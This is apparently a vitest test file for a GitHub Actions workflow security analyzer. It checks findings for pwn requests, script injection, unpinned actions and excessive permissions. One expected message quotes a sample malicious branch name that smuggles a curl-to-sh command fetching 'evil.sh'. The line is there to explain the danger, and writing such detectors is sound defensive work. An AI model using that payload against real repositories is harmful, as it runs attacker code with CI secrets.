import { describe, expect, it } from "vitest";
import { workflowAnalyzer } from "../../../src/analyzers/actions/workflow-analyzer.js";
import type { ChangedFile, Finding } from "../../../src/domain/model.js";
import { addedFile, changedFile } from "../../helpers/changed-file.js";
import { infraFixture } from "../infra/infra-fixture.js";

const path = ".github/workflows/ci.yml";
const review = (file: ChangedFile) => workflowAnalyzer.analyze(file, { files: [file] });
const added = (name: string) => addedFile(path, infraFixture(`actions/${name}`));
const summary = (findings: Finding[]) =>
  findings.map((finding) => [
    finding.ruleId,
    finding.line,
    finding.severity,
    finding.haltQuestion !== undefined,
  ]);

describe("workflowAnalyzer", () => {
  it("applies to workflow files only, and reads only the head", () => {
    const applies = (file: string) => workflowAnalyzer.appliesTo(addedFile(file, "on: push\n"));
    expect(applies(".github/workflows/ci.yml")).toBe(true);
    expect(applies(".github/workflows/release.yaml")).toBe(true);
    expect(applies(".github/workflows/nested/ci.yml")).toBe(false);
    expect(applies(".github/dependabot.yml")).toBe(false);
    expect(workflowAnalyzer.needs).toEqual({ base: false, head: true });
  });

  it("I12: asks about pull_request_target checking out the PR head, and flags the missing permissions", async () => {
    const { findings, notes } = await review(added("pwn-request.bad.yml"));
    expect(notes).toEqual([]);
    expect(summary(findings)).toEqual([
      ["gha/excessive-permissions", 2, "major", false],
      ["gha/pwn-request", 12, "blocker", true],
    ]);
    expect(findings[1]?.haltQuestion).toBe(
      "This workflow runs on `pull_request_target` and checks out the PR head, so fork PRs can run code with a " +
        "write token and secrets. Is this required? Which steps are isolated?",
    );
    expect(await review(added("pwn-request.good.yml"))).toEqual({ findings: [], notes: [] });
  });

  it("I12: a PR that only switches the trigger to pull_request_target still owns the pwn request", async () => {
    const file = changedFile(
      path,
      infraFixture("actions/trigger-change.base.yml"),
      infraFixture("actions/trigger-change.head.yml"),
    );
    expect([...file.addedLines]).toEqual([3]);
    // The legacy `${{ github.head_ref }}` on line 15 is not part of this change.
    expect(summary((await review(file)).findings)).toEqual([["gha/pwn-request", 3, "blocker", true]]);
  });

  it("flags untrusted expressions in run: and github-script (also whole objects through toJSON)", async () => {
    const { findings } = await review(added("injection.bad.yml"));
    expect(
      findings.map((finding) => [finding.ruleId, finding.line, finding.severity, finding.subject]),
    ).toEqual([
      ["gha/script-injection", 17, "blocker", "triage.steps[0] github.event.issue.title"],
      ["gha/script-injection", 23, "blocker", "triage.steps[1] github.event.comment.body"],
      ["gha/script-injection", 25, "blocker", "triage.steps[2] github.event.issue"],
    ]);
    expect(findings[1]?.message).toContain("read `process.env.BODY`");
    expect(await review(added("injection.good.yml"))).toEqual({ findings: [], notes: [] });
  });

  it("on pull_request_target flags github.head_ref (the author's branch name), not github.base_ref (an upstream branch)", async () => {
    const workflow = [
      "on: pull_request_target",
      "permissions:",
      "  contents: read",
      "jobs:",
      "  label:",
      "    runs-on: ubuntu-latest",
      "    steps:",
      "      - run: |",
      `          echo "merging \${{ github.head_ref }}"`,
      `          git diff --stat "origin/\${{ github.base_ref }}"`,
      "",
    ].join("\n");
    const { findings } = await review(addedFile(path, workflow));
    expect(
      findings.map((finding) => [finding.ruleId, finding.line, finding.subject, finding.message]),
    ).toEqual([
      [
        "gha/script-injection",
        9,
        "label.steps[0] github.head_ref",
        `\`\${{ github.head_ref }}\` is pasted into the \`run:\` source before it runs, and \`github.head_ref\` is the ` +
          "pull request's branch name, which whoever opens the PR picks (from a fork too): a branch named " +
          '`x";curl$IFS"evil.sh"|sh;#` becomes code with this job\'s token and secrets. Pass it through `env:` ' +
          `(\`HEAD_REF: \${{ github.head_ref }}\`) and read \`"$HEAD_REF"\`.`,
      ],
    ]);
  });

  it("flags actions, reusable workflows and images not pinned to a SHA/digest; GitHub's own as minor", async () => {
    const { findings } = await review(added("unpinned.bad.yml"));
    expect(
      findings.map((finding) => [finding.ruleId, finding.line, finding.severity, finding.subject]),
    ).toEqual([
      ["gha/unpinned-action", 11, "minor", "test.steps[0] actions/checkout@v4"],
      ["gha/unpinned-action", 12, "major", "test.steps[1] tj-actions/changed-files@v45"],
      ["gha/unpinned-action", 13, "major", "test.steps[2] docker://alpine:3.20"],
      [
        "gha/unpinned-action",
        16,
        "major",
        "release example-org/workflows/.github/workflows/release.yml@main",
      ],
    ]);
    expect(await review(added("unpinned.good.yml"))).toEqual({ findings: [], notes: [] });
  });

  it("flags write-all and a privileged trigger without top-level permissions", async () => {
    const { findings } = await review(added("permissions.bad.yml"));
    expect(summary(findings)).toEqual([
      ["gha/excessive-permissions", 2, "major", false],
      ["gha/excessive-permissions", 13, "major", false],
    ]);
    expect(await review(added("permissions.good.yml"))).toEqual({ findings: [], notes: [] });
  });

  it("turns invalid YAML into one note naming the file and the line", async () => {
    expect(await review(added("invalid.yml"))).toEqual({
      findings: [],
      notes: [
        {
          path,
          message:
            "`.github/workflows/ci.yml`: could not parse YAML at line 9 (A block sequence may not be used as an " +
            "implicit map key); it was not checked.",
        },
      ],
    });
  });

  it("reads `on` as a string key (YAML 1.2), whatever the trigger syntax", async () => {
    for (const on of [
      "on: pull_request_target",
      "on: [push, pull_request_target]",
      '"on":\n  pull_request_target: {}',
    ]) {
      const head = `${on}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11\n        with:\n          ref: \${{ github.head_ref }}\n`;
      const { findings } = await review(addedFile(path, head));
      expect(findings.map((finding) => finding.ruleId)).toContain("gha/pwn-request");
    }
  });
});
